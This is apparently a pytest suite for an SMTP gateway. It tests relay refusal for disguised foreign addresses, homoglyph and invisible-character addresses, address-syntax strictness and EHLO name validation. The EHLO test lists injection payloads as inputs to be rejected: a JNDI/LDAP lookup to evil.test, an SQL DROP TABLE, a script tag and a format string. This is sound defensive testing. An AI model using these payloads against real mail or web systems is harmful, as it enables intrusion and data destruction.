"""Envelope and wire, B28-B32: whose address it is, and what an address may look like."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from client import Client
from gateway import Gateway
from hostile.world import MESSAGE, only, taken

KEYS: dict[str, object] = {
    "smtp-recipients": "local",
    "smtp-username": "anna",
    "smtp-password": "opensesame",
    "smtp-auth-insecure-range": "127.0.0.0/8",
    "rabbitmq-local": "local",
    "smtp-max-errors": 100,
}
ANNA = "AUTH PLAIN AGFubmEAb3BlbnNlc2FtZQ=="


def recipients(server: Gateway, paths: dict[str, str], sender: str = "<>") -> dict[str, str]:
    """What RCPT is answered for each, and that no more than the accepted are published."""
    found = {}
    with Client(server.port) as client:
        client.hello()
        assert client.ask(f"MAIL FROM:{sender}").startswith("250 ")
        for path in paths:
            found[path] = client.ask(f"RCPT TO:{path}")[: len(paths[path])]
    return found


def senders(server: Gateway, paths: dict[str, str]) -> dict[str, str]:
    """What MAIL is answered for each."""
    found = {}
    with Client(server.port) as client:
        client.hello()
        for path in paths:
            found[path] = client.ask(f"MAIL FROM:{path}")[: len(paths[path])]
            client.ask("RSET")
    return found


def test_B28_no_spelling_of_a_foreign_address_is_relayed(mx: Gateway) -> None:
    paths = {
        "<x%other.test@ours.test>": "250",
        "<other.test!x@ours.test>": "250",
        '<"x@other.test"@ours.test>': "250",
        "<BOB@OURS.TEST>": "250",
        "<@ours.test:x@other.test>": "550",
        "<@ours.test,@ours.test:x@other.test>": "550",
        "<x@other.test>": "550",
        "<ours.test!x@other.test>": "550",
        "<x@ours.test.other.test>": "550",
        "<x@[127.0.0.1]>": "550",
        "<x@ours.test@other.test>": "501",
        "<x@ours.test.>": "501",
        "<x@other.test.>": "501",
        '<"x"@other.test@ours.test>': "501",
        "<x@other.test>,<bob@ours.test>": "501",
        "<bob@ours.test> <x@other.test>": "501",
        "x@other.test<bob@ours.test>": "501",
        "<=?utf-8?q?x=40other=2Etest=3E?=@ours.test>": "250",
        "<bob@ours.test>\tORCPT=x": "501",
    }
    assert recipients(mx, paths) == paths
    # A local address is published as it was written: nothing in it is taken apart.
    local = [path[1:-1] for path, code in paths.items() if code == "250"]
    with Client(mx.port) as client:
        client.hello()
        assert client.mail(MESSAGE, *local).startswith("250-2.0.0 ")
    assert [each["recipient"] for each in taken(mx, "local")] == local
    assert taken(mx) == []


def test_B28_what_follows_a_source_route_is_the_address(mx: Gateway) -> None:
    with Client(mx.port) as client:
        client.hello()
        assert client.mail(MESSAGE, "@evil.test,@other.test:bob@ours.test").startswith("250-")
    [document] = taken(mx, "local")
    assert document["recipient"] == "bob@ours.test"


def test_B29_each_recipient_is_judged_and_routed_by_itself(mx: Gateway) -> None:
    local = ["bob@ours.test", "Bob@OURS.test", "bob+tag@ours.test", "bob@xn--kln-sna.test"]
    foreign = ["x@other.test", "x@ours.test.evil.test", "x@xn--kln-sna.ours.test"]
    with Client(mx.port) as client:
        client.hello()
        client.ask("MAIL FROM:<joe@there.test>")
        said = {each: client.ask(f"RCPT TO:<{each}>")[:3] for each in local + foreign}
        assert said == dict.fromkeys(local, "250") | dict.fromkeys(foreign, "550")
        # The rest of the mail goes on without them.
        assert client.ask("DATA").startswith("354 ")
        client.send(MESSAGE + b".\r\n")
        assert client.reply().count(" for ") == 4
    assert [each["recipient"] for each in taken(mx, "local")] == [*local[:3], "bob@köln.test"]
    with Client(mx.port) as client:
        client.hello()
        assert client.ask(ANNA).startswith("235 ")
        assert client.mail(MESSAGE, local[0], foreign[0]).count(" for ") == 2
    assert [each["recipient"] for each in taken(mx, "local")] == local[:1]
    assert only(mx)["recipient"] == foreign[0]


def test_B30_addresses_beyond_ascii(mx: Gateway) -> None:
    # What nobody can see or what turns the reading round is no character of an address.
    hidden = ["\u200b", "\u202e", "\u2066", "\ufeff", "\u2028", "\x85", "\u00a0"]
    refused = {f"<a{each}b@ours.test> SMTPUTF8": "501" for each in hidden}
    refused |= {"<jörg@there.test>": "553", "<joe@thérè.test>": "553"}
    assert senders(mx, refused) == refused
    taken_as_written = {
        "<jörg@köln.test> SMTPUTF8": "250",
        "<b\u043eb@\u043eurs.test> SMTPUTF8": "250",
    }
    assert senders(mx, taken_as_written) == taken_as_written
    with Client(mx.port) as client:
        client.hello()
        for octets in (b"\xff", b"\xc3", b"\xed\xa0\x80", b"\xc0\xaf", b"\xf4\x90\x80\x80"):
            line = b"MAIL FROM:<a" + octets + b"@there.test> SMTPUTF8"
            assert client.ask(line).startswith("501 ")
        assert client.ask("MAIL FROM:<jörg@there.test> SMTPUTF8").startswith("250 ")
        # The o of this domain is a Cyrillic one: it looks like ours and is somebody else's.
        assert client.ask("RCPT TO:<bob@\u043eurs.test>").startswith("550 ")
        assert client.ask("RCPT TO:<bjørn@ours.test>").startswith("250 ")
        assert client.ask("DATA").startswith("354 ")
        client.send("Subject: grüße\r\n\r\n\u043f\u0438\u0441\u044c\u043c\u043e\r\n.\r\n".encode())
        assert " for bjørn@ours.test" in client.reply()
        # The next mail has said nothing of SMTPUTF8.
        assert client.ask("MAIL FROM:<joe@there.test>").startswith("250 ")
        assert client.ask("RCPT TO:<bjørn@ours.test>").startswith("553 ")
    [document] = taken(mx, "local")
    assert (document["envelope"], document["recipient"]) == ("jörg@there.test", "bjørn@ours.test")


LONG = "a" * 64
# Path -> strict, loose.
SYNTAX: dict[str, tuple[str, str]] = {
    "<bob@ours.test>": ("250", "250"),
    "bob@ours.test": ("501", "250"),
    "<bob@ours.test": ("501", "501"),
    "bob@ours.test>": ("501", "501"),
    "<bob@ours.test>x": ("501", "501"),
    "<<bob@ours.test>>": ("501", "501"),
    " <bob@ours.test>": ("250", "250"),
    "<bob@ours.test> ": ("250", "250"),
    "<@relay.test:bob@ours.test>": ("250", "250"),
    '<"b o b"@ours.test>': ("250", "250"),
    '<"b\\"o>b"@ours.test>': ("250", "250"),
    '<"bob@ours.test>': ("501", "250"),
    "<b ob@ours.test>": ("501", "250"),
    "<.bob@ours.test>": ("501", "250"),
    "<bob.@ours.test>": ("501", "250"),
    "<b..b@ours.test>": ("501", "250"),
    "<bob@.ours.test>": ("501", "501"),
    "<bob@ours..test>": ("501", "501"),
    "<bob@-ours.test>": ("501", "501"),
    "<bob@ours_.test>": ("501", "501"),
    "<bob@>": ("501", "501"),
    "<@ours.test>": ("501", "501"),
    "<bob>": ("501", "501"),
    "<@>": ("501", "501"),
    "<b@b@ours.test>": ("501", "250"),
    "<>": ("501", "501"),
    "": ("501", "501"),
    "<postmaster>": ("250", "250"),
    "<POSTMASTER>": ("250", "250"),
    "<bob@[192.0.2.1]>": ("550", "550"),
    "<bob@[IPv6:2001:db8::1]>": ("550", "550"),
    "<bob@[IPv6:2001:db8::g]>": ("501", "501"),
    "<bob@[256.0.0.1]>": ("501", "501"),
    "<bob@[192.0.2.1>": ("501", "501"),
    "<bob@[x-tag:y]>": ("501", "501"),
    f"<{LONG}@ours.test>": ("250", "250"),
    f"<{LONG}a@ours.test>": ("501", "250"),
    f"<bob@{'.'.join(['a' * 60] * 5)}.test>": ("501", "501"),
    f"<bob@{LONG}.test>": ("501", "501"),
    f"<{'a' * 1000}@ours.test>": ("501", "501"),
    f"<{'a' * 256}@ours.test>": ("501", "550"),
}


def test_B31_the_strict_syntax(mx: Gateway) -> None:
    wanted = {path: strict for path, (strict, _) in SYNTAX.items()}
    assert recipients(mx, wanted) == wanted


def test_B31_the_loose_syntax(gateway: Callable[..., Gateway]) -> None:
    server = gateway(KEYS | {"smtp-validate-address": "loose"})
    wanted = {path: loose for path, (_, loose) in SYNTAX.items()}
    assert recipients(server, wanted) == wanted


def test_B32_names_in_ehlo(mx: Gateway) -> None:
    bad = [
        "EHLO",
        "EHLO ",
        "EHLO a b",
        "EHLO \x1b[2J",
        "EHLO a\x00b",
        "EHLO a\tb",
        "EHLO " + "a" * 1000,
        "EHLO <script>alert(1)</script>",
        "EHLO [",
        "EHLO [x",
        "EHLO a\u202eb",
        "EHLO ${jndi:ldap://evil.test/x}",
        "EHLO a'; DROP TABLE document; --",
        "HELO",
        "HELO %n%s",
    ]
    with Client(mx.port) as client:
        client.reply()
        assert {line: client.ask(line)[:3] for line in bad} == dict.fromkeys(bad, "501")
        good = ["a", "[192.0.2.1]", "[IPv6:2001:db8::1]", "under_score.test", "-", "a" * 255]
        assert [client.ask(f"EHLO {name}")[:3] for name in good] == ["250"] * 6
        assert client.mail(MESSAGE).startswith("250-2.0.0 ")
    [document] = taken(mx, "local")
    assert document["connection"]["helo"] == "a" * 255


@pytest.mark.parametrize("received", ["true", "false"])
def test_B32_what_a_name_may_hold_opens_nothing_in_a_received_field(
    gateway: Callable[..., Gateway], received: str
) -> None:
    server = gateway({"smtp-received": received})
    with Client(server.port) as client:
        client.reply()
        client.ask("EHLO a.test")
        # Refused, and the name before it stands.
        assert client.ask("EHLO evil(comment").startswith("501 ")
        assert client.mail(MESSAGE).startswith("250-2.0.0 ")
    mime = only(server)["mime"]
    assert mime.startswith("Received: from a.test ([127.0.0.1])") == (received == "true")
    assert "evil" not in mime
